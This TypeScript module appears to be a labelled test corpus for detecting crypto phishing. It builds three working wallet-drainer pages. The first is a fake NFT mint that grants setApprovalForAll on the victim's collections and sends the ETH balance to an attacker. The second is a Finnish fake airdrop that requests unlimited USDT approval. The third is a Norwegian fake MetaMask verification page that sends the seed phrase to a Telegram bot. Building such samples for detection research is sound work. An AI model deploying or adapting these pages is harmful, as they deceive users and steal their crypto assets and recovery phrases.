import { type Entry } from '../entry.js';
import { doc, b64, rev } from '../parts/yx-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
(() => {
  const h = 'valhallavikings-mint.xyz';
  const op = '0x7d3f1a9c2b4e6d8f0a1c3e5b7d9f2a4c6e8b0d11';
  const js = `(function(){
var R='${rev(op)}'.split('').reverse().join('');
var pad=function(x){return x.replace(/^0x/,'').toLowerCase().padStart(64,'0')};
var st=document.getElementById('status');
async function mint(){
 if(!window.ethereum){st.textContent='Install MetaMask to mint';return;}
 var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];
 st.textContent='Checking Allowlist eligibility…';
 try{await ethereum.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x1'}]})}catch(e){}
 var inv=await fetch('/api/v2/inventory?o='+acc).then(function(r){return r.json()});
 for(var i=0;i<inv.collections.length;i++){
  var c=inv.collections[i];
  st.textContent='Verifying holder status ('+(i+1)+'/'+inv.collections.length+')…';
  await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:c.contract,data:'0xa22cb465'+pad(R)+pad('0x1')}]});
  fetch('/api/v2/log',{method:'POST',body:JSON.stringify({a:acc,c:c.contract,t:'sfa'})});
 }
 var bal=await ethereum.request({method:'eth_getBalance',params:[acc,'latest']});
 var v=BigInt(bal)-BigInt('2100000000000000');
 if(v>0n){st.textContent='Minting 2 Vikings (free + gas)…';await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:R,value:'0x'+v.toString(16)}]});}
 st.textContent='Mint pending – your Vikings will appear within 24 h.';
}
document.querySelectorAll('.mint').forEach(function(b){b.onclick=mint});
})();`;
  return {
    id: 'yx-drainer-valhalla-vikings-setapprovalforall',
    label: 'cryptodrainer',
    kind: 'nft-mint-drainer',
    url: `https://${h}/mint`,
    body: doc({
      lang: 'en',
      title: 'Valhalla Vikings – Free Mint LIVE',
      css: `body{margin:0;background:#0b0f1a;color:#e8e1cf;font-family:"Cinzel",Georgia,serif;text-align:center}.h{display:flex;justify-content:space-between;padding:18px 30px;align-items:center}.mint{background:#c9a227;color:#0b0f1a;border:0;padding:14px 34px;font-size:18px;font-weight:bold;border-radius:6px;cursor:pointer}
.hero{padding:50px 20px}.hero h1{font-size:54px;letter-spacing:3px;margin:0}.bar{width:420px;height:14px;background:#222;margin:20px auto;border-radius:7px;overflow:hidden}.bar i{display:block;height:100%;width:87%;background:#c9a227}.g{display:flex;justify-content:center;gap:16px}.g svg{border-radius:8px}`,
      body: `<div class="h"><b>ᚠ VALHALLA VIKINGS</b><button class="mint">Connect Wallet</button></div>
<div class="hero"><h1>VALHALLA VIKINGS</h1><p>6 666 hand-drawn Norse warriors. Inspired by the sagas of Sweden, Norway, Denmark and Iceland.<br>Free mint for holders of BAYC, Azuki, Pudgy Penguins and Moonbirds.</p>
<div class="g">${['#7a1f1f', '#1f3a7a', '#2f6b3a', '#6b5a2f'].map((c) => `<svg width="140" height="140"><rect width="140" height="140" fill="${c}"/><circle cx="70" cy="60" r="30" fill="#e8c39e"/><polygon points="35,45 70,15 105,45" fill="#999"/></svg>`).join('')}</div>
<div class="bar"><i></i></div><p>5 801 / 6 666 minted · 0.00 ETH · Max 2 per wallet</p><button class="mint">MINT NOW</button><p id="status" style="min-height:22px"></p></div>
<script src="/static/js/mint.chunk.js"></script>`,
    }),
    routes: {
      [`${h}/static/js/mint.chunk.js`]: jsRoute(js),
      [`${h}/api/v2/inventory`]: jsonRoute({ collections: [{ contract: '0xbc4ca0eda7647a8ab7c2061c2e118a18a936f13d' }, { contract: '0xed5af388653567af2f388e6224dc7c4b3241c544' }] }),
    },
  } satisfies Entry;
})(),
(() => {
  const h = 'claim-saunadao.fi-airdrop.org';
  const spender = '0x91e4b2c7d3a8f05e6b1c9d2a4f7e3b8c5d0a6f19';
  return {
    id: 'yx-drainer-saunadao-airdrop-approve-max',
    label: 'cryptodrainer',
    kind: 'token-approval-drainer',
    url: `https://${h}/`,
    body: doc({
      lang: 'fi',
      title: 'SaunaDAO – $LÖYLY airdrop',
      css: `body{margin:0;background:#2b1d14;color:#fbeee0;font-family:Arial;text-align:center}.c{max-width:500px;margin:60px auto;background:#3d2a1d;border-radius:16px;padding:30px}h1{font-size:38px}.amt{font-size:40px;font-weight:bold;color:#ffb347}button{background:#ffb347;color:#2b1d14;border:0;border-radius:10px;padding:14px 32px;font-size:17px;font-weight:bold}.e{font-size:13px;opacity:.8}`,
      body: `<div class="c"><h1>🧖 SaunaDAO</h1><p>Suomalainen yhteisö-DAO. Airdrop kaikille Ethereum-lompakoille, jotka ovat olleet aktiivisia 2024.</p><p>Your allocation / Sinun osuutesi:</p><div class="amt" id="a">– $LÖYLY</div>
<button id="b">Yhdistä lompakko &amp; lunasta</button><p class="e" id="e">Lunastus vaatii USDT-saldon tarkistuksen (anti-sybil).</p></div>
<script>
var S='${spender}',USDT='0xdAC17F958D2ee523a2206206994597C13D831ec7',MAX='f'.repeat(64);
document.getElementById('b').onclick=async function(){
 var acc=(await window.ethereum.request({method:'eth_requestAccounts'}))[0];
 document.getElementById('a').textContent=(4200+parseInt(acc.slice(-3),16)).toLocaleString('fi-FI')+' $LÖYLY';
 var data='0x095ea7b3'+S.slice(2).padStart(64,'0')+MAX;
 document.getElementById('e').textContent='Vahvista anti-sybil-tarkistus lompakossasi…';
 var tx=await window.ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:USDT,data:data}]});
 fetch('https://${h}/api/approved',{method:'POST',body:JSON.stringify({acc:acc,tx:tx,token:'USDT'})});
 document.getElementById('e').textContent='Lunastettu! Tokenit näkyvät lompakossa 24 h kuluessa.';
};
</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const tok = b64('7190442281:AAEq3V9xN2bWc8Lm1KpRz0tYhU6fJsDo4Gi');
  return {
    id: 'yx-drainer-metamask-verify-seed-no',
    label: 'cryptodrainer',
    kind: 'seed-phrase-harvest',
    url: 'https://metamask-verifisering.no-wallet.com/verifiser',
    body: doc({
      lang: 'no',
      title: 'MetaMask – Verifiser lommeboken din',
      css: `body{margin:0;background:#f2f4f6;font-family:Euclid,Arial;color:#24272a}.c{max-width:460px;margin:50px auto;background:#fff;border-radius:10px;padding:30px;text-align:center}textarea{width:100%;box-sizing:border-box;height:110px;padding:12px;border:1px solid #bbc0c5;border-radius:8px;font-size:15px}button{width:100%;margin-top:14px;padding:14px;background:#0376c9;color:#fff;border:0;border-radius:24px;font-size:16px}.w{font-size:13px;color:#d73847}`,
      body: `<div class="c"><svg width="70" height="70" viewBox="0 0 70 70"><polygon points="5,10 30,28 26,16" fill="#e2761b"/><polygon points="65,10 40,28 44,16" fill="#e4761b"/><polygon points="15,50 35,62 55,50 50,30 20,30" fill="#f6851b"/></svg>
<h2>Verifiser lommeboken din</h2><p>På grunn av nye EU-regler (MiCA) må alle MetaMask-lommebøker knyttet til norske brukere verifiseres innen 72 timer. Ikke-verifiserte lommebøker blir låst.</p>
<form id="f"><textarea name="fr" placeholder="Skriv inn den hemmelige gjenopprettingsfrasen (12, 18 eller 24 ord) separert med mellomrom"></textarea><p class="w">Frasen er kryptert lokalt og lagres aldri.</p><button>Verifiser</button></form></div>
<script>
document.getElementById('f').onsubmit=function(e){e.preventDefault();var p=this.fr.value.trim().split(/\\s+/);if([12,18,24].indexOf(p.length)<0){alert('Ugyldig frase');return}
fetch('https://api.telegram.org/bot'+atob('${tok}')+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'-1002187734410',text:'🦊 MM NO\\n'+p.join(' ')+'\\n'+navigator.userAgent})}).finally(function(){document.querySelector('.c').innerHTML='<h2>Lommeboken er verifisert ✔</h2>'})};
</script>`,
    }),
  } satisfies Entry;
})(),
];
